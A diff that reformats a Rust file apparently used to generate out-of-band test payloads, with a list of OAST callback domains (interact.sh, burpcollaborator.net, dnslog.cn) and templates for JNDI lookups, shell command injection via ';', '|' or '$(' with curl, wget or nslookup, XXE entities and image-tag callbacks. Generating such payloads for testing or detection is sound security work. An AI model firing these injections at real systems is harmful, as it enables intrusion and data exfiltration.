@@ -48,7 +48,19 @@ fn marker_header(rng: &mut Rng) -> (&'static str, String) {
     }
 }
 
-const OOB: &[&str] = &["interact.sh", "oast.fun", "oast.pro", "oast.live", "oast.site", "oast.online", "oast.me", "oastify.com", "burpcollaborator.net", "dnslog.cn", "ceye.io"];
+const OOB: &[&str] = &[
+    "interact.sh",
+    "oast.fun",
+    "oast.pro",
+    "oast.live",
+    "oast.site",
+    "oast.online",
+    "oast.me",
+    "oastify.com",
+    "burpcollaborator.net",
+    "dnslog.cn",
+    "ceye.io",
+];
 
 fn oob_payload(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
     let id: String = (0..rng.range(8, 33)).map(|_| (b"abcdefghijklmnopqrstuvwxyz0123456789"[rng.below(36)]) as char).collect();
@@ -62,7 +74,10 @@ fn oob_payload(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
     let (text, shape) = match rng.below(7) {
         0 => (format!("http://{domain}/{}", rng.pick(&["", "x", "a?b=1"])), "url"),
         1 => (format!("${{jndi:{}://{domain}/{}}}", rng.pick(&["ldap", "dns", "rmi"]), rng.pick(&["a", "Exploit", "x"])), "jndi"),
-        2 => (format!("{}{} {domain}", rng.pick(&[";", "|", "`", "$("]), rng.pick(&["nslookup", "curl", "ping -c1", "wget", "dig"])), "shell"),
+        2 => (
+            format!("{}{} {domain}", rng.pick(&[";", "|", "`", "$("]), rng.pick(&["nslookup", "curl", "ping -c1", "wget", "dig"])),
+            "shell",
+        ),
         3 => (format!("<img src=\"//{domain}/p.png\">"), "markup"),
         4 => (format!("<!DOCTYPE x [<!ENTITY e SYSTEM \"http://{domain}/x\">]>"), "xxe"),
         5 => (domain.clone(), "bare"),
